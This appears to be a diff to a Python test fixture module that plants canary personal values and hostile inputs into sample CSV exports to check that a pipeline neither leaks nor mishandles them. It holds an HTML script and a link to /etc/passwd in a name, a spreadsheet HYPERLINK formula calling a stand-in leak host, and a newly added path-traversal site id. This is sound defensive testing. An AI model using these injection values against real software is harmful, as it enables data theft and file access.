@@ -22,6 +22,7 @@ SAMPLE = REPO / "sample_exports" / "2026-10"
 PERIOD = "2026-10"
 CANARY = "QXCANARY"  # every planted personal value contains this token; no output may
 SCRIPT_NAME = '<script>document.title="pwned"</script><link rel="attachment" href="file:///etc/passwd">Northwind'
+PATH_SITE = "../../escaped/..\\x"
 FORMULA_NAME = '=HYPERLINK("http://example.invalid/leak","Acme")'
 
 
@@ -91,7 +92,9 @@ def canary_world(root: Path) -> World:
 
 
 def _interactions_with_canaries(src: Path, dst: Path) -> None:
-    frame = pl.read_csv(src, separator=";", infer_schema=False)
+    header = src.read_text(encoding="utf-8").split("\n", 1)[0]
+    sep = ";" if header.count(";") > header.count(",") else ","
+    frame = pl.read_csv(src, separator=sep, infer_schema=False)
     frame = frame.with_columns(
         pl.when(pl.col("member_ref").is_not_null()).then(pl.lit(CANARY + "-") + pl.col("member_ref"))
         .alias("member_ref"))
@@ -100,7 +103,10 @@ def _interactions_with_canaries(src: Path, dst: Path) -> None:
         (pl.col("interaction_id") + "-BAD").alias("interaction_id"),
         pl.lit("fax").alias("channel"),
         pl.format(CANARY + "-BAD{}", pl.int_range(pl.len())).alias("member_ref"))
-    pl.concat([frame, bad, frame.head(1)]).write_csv(dst, separator=";")  # head(1): a repeated key
+    # A site id shaped like a path: data from an unknown site, never part of a file name.
+    odd = frame.head(1).with_columns((pl.col("interaction_id") + "-ODD").alias("interaction_id"),
+                                     pl.lit(PATH_SITE).alias("site_id"))
+    pl.concat([frame, bad, frame.head(1), odd]).write_csv(dst, separator=sep)  # head(1): a repeated key
 
 
 def _surveys_with_canaries(period_dir: Path) -> None:
